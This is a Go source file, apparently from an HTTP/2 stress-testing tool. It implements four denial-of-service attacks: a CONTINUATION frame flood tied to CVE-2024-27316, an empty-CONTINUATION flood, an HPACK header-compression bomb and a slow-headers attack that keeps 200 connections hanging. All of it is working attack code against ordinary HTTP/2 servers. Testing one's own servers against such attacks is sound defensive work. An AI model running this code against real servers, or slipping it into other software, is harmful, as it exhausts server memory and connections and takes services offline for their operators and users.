package attack

import (
	"bytes"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// headerAttacks aim at what must be kept and computed before a request is
// understood.
var headerAttacks = []Attack{
	{
		Name: "continuation flood", Unit: "frames", run: continuationFlood,
		Why: "A list of headers that never ends is collected, or at least decoded (CVE-2024-27316).",
	},
	{
		Name: "empty continuation flood", Unit: "frames", run: emptyContinuations,
		Why: "CONTINUATION without a byte never reaches a limit of size.",
	},
	{
		Name: "hpack bomb", Unit: "requests", run: hpackBomb,
		Why: "A byte of the block stands for 4 KiB of a header in the table.",
	},
	{
		Name: "slow headers", Unit: "frames", run: slowHeaders,
		Why: "Requests that never become complete hold their tunnels.",
	},
}

// unfinished begins a request whose headers go on.
func unfinished(t *tunnel) bool {
	t.text.Reset()
	_ = t.hpck.WriteField(hpack.HeaderField{Name: ":method", Value: "CONNECT"}) // to memory
	t.next += 2
	return t.WriteHeaders(http2.HeadersFrameParam{StreamID: t.next - 2, BlockFragment: t.text.Bytes()}) == nil
}

func continuationFlood(a *attacker) {
	var block bytes.Buffer
	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x-filler", Value: string(bytes.Repeat([]byte("x"), 1000)), Sensitive: true})
	a.continuations(block.Bytes())
}

func emptyContinuations(a *attacker) { a.continuations(nil) }

func (a *attacker) continuations(fragment []byte) {
	a.tunnels(16, func(t *tunnel) bool {
		return (t.next > 1 || unfinished(t)) && t.WriteContinuation(1, false, fragment) == nil
	})
}

func hpackBomb(a *attacker) {
	const table, references = 3900, 12 << 10
	bomb := hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte("b"), table))}
	const newestEntry = 0x80 | 62 // indexed, the first behind the static table
	many := bytes.Repeat([]byte{newestEntry}, references)
	a.tunnels(1, func(t *tunnel) bool {
		t.text.Reset()
		_ = t.hpck.WriteField(hpack.HeaderField{Name: ":method", Value: "CONNECT"})
		_ = t.hpck.WriteField(bomb) // in the table from the second time on
		t.text.Write(many)
		t.next += 2
		return t.WriteHeaders(http2.HeadersFrameParam{StreamID: t.next - 2, BlockFragment: t.text.Bytes(), EndHeaders: true}) == nil && t.next < lastStream
	})
}

// slowTunnels is how many tunnels an attacker holds who is slow on all of them.
const slowTunnels = 200

func slowHeaders(a *attacker) {
	var held []*tunnel
	defer func() {
		for _, t := range held {
			t.close()
		}
	}()
	for i := 0; a.next(); i++ {
		if len(held) < slowTunnels {
			if t := a.open(); t != nil && unfinished(t) && t.push() {
				held = append(held, t)
				a.done++
			} else if t != nil {
				t.close()
			}
			continue
		}
		t := held[i%slowTunnels]
		// One literal header of two bytes.
		if t.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'}) == nil && t.push() {
			a.done++
		} else {
			t.close()
			held = append(held[:i%slowTunnels], held[i%slowTunnels+1:]...)
		}
		a.rest()
	}
}
